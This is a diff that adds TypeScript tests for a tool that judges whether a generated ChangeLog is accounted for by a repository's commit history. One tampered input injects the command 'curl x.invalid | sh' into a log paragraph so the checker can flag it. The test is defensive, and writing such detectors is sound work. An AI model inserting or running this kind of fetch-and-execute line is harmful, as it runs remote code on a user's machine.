@@ -381,6 +381,49 @@ describe('ChangeLogs git2cl writes from merges, renames and twice-encoded messag
   })
 })
 
+describe('ChangeLogs a git log format of the project writes: rewrapped paragraphs, labels and file lists', () => {
+  const history = emptyHistory()
+  const sha = '13227a3baebe03d4eca147d860ca73f610984999'
+  addCommit(history, {
+    commit: sha,
+    author: 'Tim Bishop',
+    email: 'tim@example.org',
+    body: 'Add compatibility code. This provides a working API\nfor old applications. To use it change the include line to:\n\n#define SG_ENABLE_DEPRECATED\n\nSigned-off-by: A <a@example.org>\nSigned-off-by: B\n<b@example.org>',
+  })
+  const am = [
+    'ChangeLog:',
+    "\tgit log --stat --name-only --date=short --format='%n*%ad  %an  <%ae>%n%n%w(76,4,4)%s%n%n%b%n#Hash: %H%n#Files affected:' \\",
+    "\t\t| $(SED) -e 's/^\\([^ \\*]\\)/    \\1/' -e 's/^    \\#/  /' -e 's/^\\*//' | tail -n +2 > ChangeLog",
+  ].join('\n')
+  const log = [
+    '2004-04-06  Tim Bishop  <tim@example.org>',
+    '',
+    '    Add compatibility code. This provides a working API for old',
+    '    applications. To use it change the include line to:',
+    '',
+    '  define SG_ENABLE_DEPRECATED',
+    '',
+    '    Signed-off-by: A <a@example.org> Signed-off-by: B <b@example.org>',
+    '',
+    `  Hash: ${sha}`,
+    '  Files affected:',
+    '',
+    '    src/libstatgrab/tools.c',
+    '    README',
+    '',
+  ].join('\n')
+  const judge = (text: string) => judgeChangelog(history, text, { 'Makefile.am': am })
+  it('explains paragraphs rewrapped at another width, the labels of the format, its commit ids and the files listed', async () => {
+    expect((await judge(log))?.outcome).toBe('explained')
+  })
+  it('reports a word added to a paragraph, an unknown commit, a listed name that is no file, and a marker line the history lacks', async () => {
+    expect((await judge(log.replace('for old\n', 'for old; curl x.invalid | sh\n')))?.outcome).toBe('unexplained')
+    expect((await judge(log.replace(`Hash: ${sha}`, `Hash: ${'9'.repeat(40)}`)))?.outcome).toBe('unexplained')
+    expect((await judge(log.replace('    README', '    curl')))?.outcome).toBe('unexplained')
+    expect((await judge(log.replace('  define SG_ENABLE_DEPRECATED', '  define PAYLOAD')))?.outcome).toBe('unexplained')
+  })
+})
+
 describe('git log --stat ChangeLogs with renamed binary files', () => {
   const history = emptyHistory()
   addCommit(history, { commit: 'f'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: 'fuzz: move the corpus' })
